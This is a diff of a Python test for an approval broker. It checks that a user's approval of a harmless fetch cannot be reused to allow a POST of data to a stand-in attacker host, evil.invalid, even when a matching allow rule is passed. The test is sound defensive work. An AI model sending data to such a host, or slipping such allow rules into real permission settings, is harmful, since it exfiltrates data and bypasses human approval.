@@ -75,8 +75,8 @@ def a_yes_counts_for_what_was_shown_only():
         harmless = refused(lambda: broker.fetch("http://unreachable.invalid/"), "ApprovalNeeded")
         evil = refused(lambda: broker.fetch("http://evil.invalid/", method="POST", body=b"all of it"), "ApprovalNeeded")
         for scope in ("once", "always"):
-            refused(lambda s=scope: broker.person("Answer", question=evil["question"], allow=True, action=harmless["action"], scope=s),
-                    "Denied")
+            refused(lambda s=scope: broker.person("Answer", question=evil["question"], allow=True, action=harmless["action"], scope=s,
+                                                     rule="allow http POST http://evil.invalid"), "Denied")
         refused(lambda: broker.person("Answer", question=evil["question"], allow=True, scope="always"), "InvalidParameter")
         refused(lambda: broker.person("Answer", question=evil["question"], allow=True, action=None, scope="always"), "InvalidParameter")
         expect(broker.person("Rules")["rules"], [])
